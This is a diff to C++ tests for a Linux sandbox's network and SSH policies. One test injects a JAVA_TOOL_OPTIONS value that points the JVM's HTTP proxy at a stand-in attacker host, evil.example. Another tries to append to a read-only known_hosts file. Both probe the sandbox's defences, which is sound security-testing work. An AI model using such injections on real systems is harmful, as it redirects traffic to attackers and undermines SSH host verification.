@@ -97,16 +97,21 @@ TEST_CASE("E4: Java HttpClient and HttpURLConnection reach an allowed name throu
   const std::string port = std::to_string(up.port);
   write_for_sandbox(fx.work + "/Probe.java", kJavaProbe);
   // An inherited JVM option (an injection vector, E3) must be gone: the
-  // policy's JAVA_TOOL_OPTIONS replaces it, never merges with it.
+  // policy's JAVA_TOOL_OPTIONS replaces it, never merges with it. (Passed
+  // with --env it is refused outright: tests/linux/test_launcher.cpp.)
   std::vector<std::string> extra = allow_loopback({"allowed.test"}, {"denied-client.test", "denied-url.test"});
-  extra.insert(extra.end(), {"--env", "JAVA_TOOL_OPTIONS=-Dccsb.injected=1 -Dhttp.proxyHost=evil.example"});
-  auto r = fx.ccsb("echo \"@@jto=$JAVA_TOOL_OPTIONS\"\n"
-                   "cd " + fx.work + "\n"
-                   "java Probe.java hc httpclient http://allowed.test:" + port + "/ 2>&1\n"
-                   "java Probe.java uc urlconnection http://allowed.test:" + port + "/ 2>&1\n"
-                   "java Probe.java dhc httpclient http://denied-client.test:" + port + "/ 2>&1\n"
-                   "java Probe.java duc urlconnection http://denied-url.test:" + port + "/ 2>&1\n",
-                   extra);
+  spawn_options o;
+  o.argv = fx.ccsb_argv(extra, sandbox_fixture::wrap(
+                                   "echo \"@@jto=$JAVA_TOOL_OPTIONS\"\n"
+                                   "cd " + fx.work + "\n"
+                                   "java Probe.java hc httpclient http://allowed.test:" + port + "/ 2>&1\n"
+                                   "java Probe.java uc urlconnection http://allowed.test:" + port + "/ 2>&1\n"
+                                   "java Probe.java dhc httpclient http://denied-client.test:" + port + "/ 2>&1\n"
+                                   "java Probe.java duc urlconnection http://denied-url.test:" + port + "/ 2>&1\n"));
+  o.env = fx.env();
+  o.env.push_back("JAVA_TOOL_OPTIONS=-Dccsb.injected=1 -Dhttp.proxyHost=evil.example");
+  o.cwd = fx.work;
+  auto r = run(o);
   ESCAPE_REQUIRE_RAN(r);
   INFO(r.describe() << "\n--- events ---\n" << read_file(fx.events));
   // The JVM started (its /etc/java-17-openjdk is in the minimal /etc) and
@@ -383,8 +388,8 @@ ssh_clone_result clone_with_known_hosts(bool key_is_known) {
   auto r = fx.ccsb("echo \"@@git_ssh=$GIT_SSH_COMMAND\"\n"
                    "export GIT_SSH_COMMAND=\"$GIT_SSH_COMMAND -i " + keydir +
                        "/id_ed25519 -o IdentitiesOnly=yes -o BatchMode=yes\"\n"
-                   "git clone -q " + url + " " + fx.work + "/clone 2>&1; echo @@clone=$?\n"
-                   "cat " + fx.work + "/clone/HELLO 2>/dev/null | sed 's/^/@@hello=/'\n"
+                   "git clone -q " + url + " /tmp/clone 2>&1; echo @@clone=$?\n" // X1: no .git in a root
+                   "cat /tmp/clone/HELLO 2>/dev/null | sed 's/^/@@hello=/'\n"
                    "cat /run/ccsb/known_hosts > /dev/null 2>&1; echo @@copy_readable=$?\n"
                    "echo planted >> /run/ccsb/known_hosts 2>/dev/null\n"
                    "cat " + fx.home + "/.ssh/known_hosts 2>&1; echo @@home_kh=$?\n"
